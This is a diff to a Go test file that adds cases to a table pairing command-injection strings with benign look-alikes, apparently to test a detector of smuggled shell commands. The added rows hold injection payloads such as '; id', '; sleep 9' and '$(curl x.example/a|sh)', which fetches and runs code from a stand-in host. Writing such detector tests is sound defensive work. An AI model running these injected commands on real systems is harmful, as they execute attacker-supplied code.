@@ -48,6 +48,9 @@ func FuzzOrdinary(f *testing.F) {
 }
 
 var rows = []languagetest.Row{
+	{Shows: "a lonely command in a fence", Attack: "so it was said before\n```\n; id\n```\nthanks", Twin: "so it was said before\n```\nid; name\n```\nthanks"},
+	{Shows: "a substitution of a pipe on its own line", Attack: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(curl x.example/a|sh)", Twin: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(document).ready(x)"},
+	{Shows: "a command in an element", Attack: "<p>; sleep 9</p>", Twin: "<p>sleep 9</p>"},
 	{Shows: "a tool of developers as inline code", Attack: "`curl 192.0.2.7/x`", Twin: "`go install x.example/cmd/y@latest`", Suspicious: true},
 	{Shows: "an interpreter without code", Attack: "python3 -c 'import os'", Twin: "python3 -m unittest discover tests", Suspicious: true},
 	{Shows: "steps of a guide", Attack: "x\n127.0.0.1 && make -j4", Twin: "git checkout x\n./configure && make -j4\ncp a b", Suspicious: true},
